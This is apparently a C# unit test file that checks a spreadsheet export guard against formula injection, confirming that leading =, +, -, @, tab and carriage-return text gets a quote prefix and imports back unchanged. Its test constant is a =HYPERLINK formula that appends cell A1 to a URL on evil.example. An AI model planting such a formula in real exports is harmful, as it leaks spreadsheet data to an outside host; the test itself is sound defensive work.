using Huiqi.Store.Import;
using MiniExcelLibs;

namespace Huiqi.Store.Tests;

/// <summary>
/// No exported text reaches a spreadsheet as a formula (issue 13, defect 10): text starting with =, +, -, @, a tab or a
/// carriage return is written with a leading ', numbers stay numbers, and the registry's tables still import back as
/// they were.
/// </summary>
public sealed class ExportGuardTests(Databases databases) : IClassFixture<Databases>
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")";

    [Fact]
    public void Formula_like_text_is_written_with_a_leading_quote_and_numbers_stay_numbers()
    {
        var bytes = Workbooks.Bytes(
        [
            new Dictionary<string, object?>
            {
                ["名称"] = Hyperlink, ["加"] = "+86 371 1234", ["减"] = "-1+2", ["at"] = "@SUM(A1:A9)", ["tab"] = "\t=1", ["cr"] = "\r=1",
                ["金额"] = -5000.5m, ["年度"] = 2024, ["普通"] = "郑州测试企业", ["空"] = null,
            },
        ], "导出");

        var row = MiniExcel.Query(new MemoryStream(bytes), useHeaderRow: true).Cast<IDictionary<string, object?>>().Single();
        Assert.Equal("'" + Hyperlink, row["名称"]);
        Assert.Equal("'+86 371 1234", row["加"]);
        Assert.Equal("'-1+2", row["减"]);
        Assert.Equal("'@SUM(A1:A9)", row["at"]);
        Assert.Equal("'\t=1", row["tab"]);
        // XML reads a carriage return back as a line feed; the quote before it is what matters.
        Assert.Equal("'\n=1", row["cr"]);
        Assert.Equal(-5000.5d, row["金额"]);
        Assert.Equal(2024d, row["年度"]);
        Assert.Equal("郑州测试企业", row["普通"]);
    }

    [Theory]
    [InlineData(Db.Sqlite)]
    [PostgresData]
    public async Task An_enterprise_named_like_a_formula_exports_guarded_and_imports_back_unchanged(Db db)
    {
        var store = await databases.FreshAsync(db);
        var named = TestData.Minimal(1) with { Name = Hyperlink };
        await store.PutAsync(named, "test");
        var file = TestData.TempFile(".xlsx");
        Sheets.WriteTables(file, () => store.StreamAsync().ToBlockingEnumerable(), [FactKind.Enterprises]);

        var cells = SheetSource.Rows(file, FactKind.Enterprises.Title).Skip(1).First().Cells;
        Assert.Contains("'" + Hyperlink, cells);

        var fresh = await databases.FreshAsync(db);
        var report = await new Importer(fresh.Database).ImportAsync(file);
        Assert.True(report.Ok, report.ToText());
        Assert.Equal(Hyperlink, (await fresh.GetAsync(named.Uscc))!.Name);
        File.Delete(file);
    }
}
